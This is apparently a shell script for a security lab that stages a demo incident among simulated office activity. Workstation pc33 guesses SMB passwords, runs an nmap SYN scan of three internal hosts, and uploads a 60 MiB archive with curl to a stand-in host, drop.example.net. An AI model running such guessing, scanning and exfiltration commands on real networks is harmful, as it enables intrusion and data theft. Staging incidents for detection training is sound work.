# The demo incident: pc33 guesses SMB passwords, scans ports, then uploads 60 MiB, among ordinary office work.

GUESSES=195
GUESS_GAP_S=0.117
UPLOAD_MIB=60

case_prepare() {
  plug_workstations
  start_office
  install_python_package smbprotocol==1.17.0
  openssl rand $((UPLOAD_MIB * 1048576)) >"$LAB_STATE/archive.bin"
}

case_play() {
  switch_on
  work 21 anna 21 525
  work 22 ben 22 525
  work 23 kim 23 525
  work 33 dora 33 120
  at 70; mistype_then_log_on
  at 150; say "guessing"
  on pc33 "$VENV/bin/python" "$LAB/clients/smb_guess.py" "$FILES" kim $GUESSES $GUESS_GAP_S >&2
  at 190; work 33 dora 34 330
  at 270; say "scan"
  on pc33 nmap -sS -T4 --max-rate 300 --top-ports 1000 "$FILES" "$INTRANET" "$GATEWAY" >"$LAB_STATE/log/nmap.log" 2>&1
  at 360; say "upload"
  on pc33 curl -s --limit-rate 1M -T "$LAB_STATE/archive.bin" http://drop.example.net/drop/archive.bin
  at 545
}
